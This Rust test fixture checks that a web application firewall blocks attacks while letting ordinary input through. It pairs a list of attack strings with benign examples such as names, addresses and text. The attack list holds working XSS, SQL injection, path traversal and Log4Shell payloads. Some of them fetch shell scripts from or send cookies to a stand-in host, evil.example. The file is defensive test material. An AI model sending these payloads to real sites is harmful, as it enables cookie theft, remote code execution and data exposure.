//! Blocking mode at paranoia level 1, as a site runs it: attacks are refused, ordinary requests are not.
//!
//! All requests are our own; `argument` ones are sent as a query and as a form.

use crate::ftw::Request;

/// What attackers put into an argument.
pub(crate) const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "javascript:alert(document.domain)",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "1' or '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "1; DROP TABLE users--",
    "1' and sleep(5)#",
    "admin'/**/or/**/1=1--",
    "1' or 1.e(1) or '1'='1",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\windows\\win.ini/../../boot.ini",
    "; cat /etc/passwd",
    "| wget http://evil.example/x.sh -O- | sh",
    "$(curl http://evil.example/x)",
    "`id`; uname -a",
    "powershell.exe -enc SQBFAFgA",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"test\";}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "http://169.254.169.254/latest/meta-data/",
    "{{constructor.constructor('return process')().exit()}}",
    "require('child_process').exec('id')",
    "x\r\nSet-Cookie: a=b",
];

/// What people put into an argument.
pub(crate) const ORDINARY: &[&str] = &[
    "",
    "42",
    "hello world",
    "Margaret Atkinson",
    "margaret.atkinson@example.com",
    "+44 20 7946 0018",
    "17 Orchard Lane, Tunbridge Wells",
    "The delivery took a little longer than promised, but the driver was kind.",
    "Please select a chair from the list and order it by Friday.",
    "We had a union meeting; all of us voted.",
    "O'Brien",
    "more than 3 and less than 4",
    "50% off, this week only!",
    "What's new? A lot...",
    "price_asc",
    "2026-11-20T16:33:41Z",
    "https://shop.example.com/catalog/chairs?page=2",
    "f47ac10b-58cc-4372-a567-0e02b2c3d479",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
    "Gr\u{fc}\u{df}e aus K\u{f6}ln",
    "\u{65e5}\u{672c}\u{8a9e}",
    "C# and F# developers",
    "R&D department",
    "(see page 12)",
    "report-final_v2.pdf",
    "Dear Sir or Madam,\nthank you for your letter.\nYours",
];

fn headers(extra: &[(&str, &str)]) -> Vec<(Vec<u8>, Vec<u8>)> {
    let common = [
        ("Host", "shop.example.com"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-GB,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Cookie", "sid=4f6c8e21a07b4d5e9c3a1b2d; theme=dark"),
    ];
    common
        .iter()
        .chain(extra)
        .map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()))
        .collect()
}

fn escape(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}

/// The argument in a query, a form, a part of a multipart body and a member of a JSON body.
pub(crate) fn requests(argument: &str) -> Vec<Request> {
    let get = |uri: String| Request {
        method: b"GET".to_vec(),
        uri: uri.into_bytes(),
        version: b"HTTP/1.1".to_vec(),
        headers: headers(&[]),
        body: Vec::new(),
    };
    let post = |kind: &str, body: String| Request {
        method: b"POST".to_vec(),
        uri: b"/account/profile".to_vec(),
        version: b"HTTP/1.1".to_vec(),
        headers: headers(&[("Content-Type", kind), ("Content-Length", &body.len().to_string())]),
        body: body.into_bytes(),
    };
    let part =
        format!("--zz9\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{argument}\r\n--zz9--\r\n");
    vec![
        get(format!("/catalog/search?q={}&page=2", escape(argument))),
        post("application/x-www-form-urlencoded", format!("name=x&note={}", escape(argument))),
        post("multipart/form-data; boundary=zz9", part),
        post("application/json", serde_json::json!({ "id": 7, "note": argument }).to_string()),
    ]
}
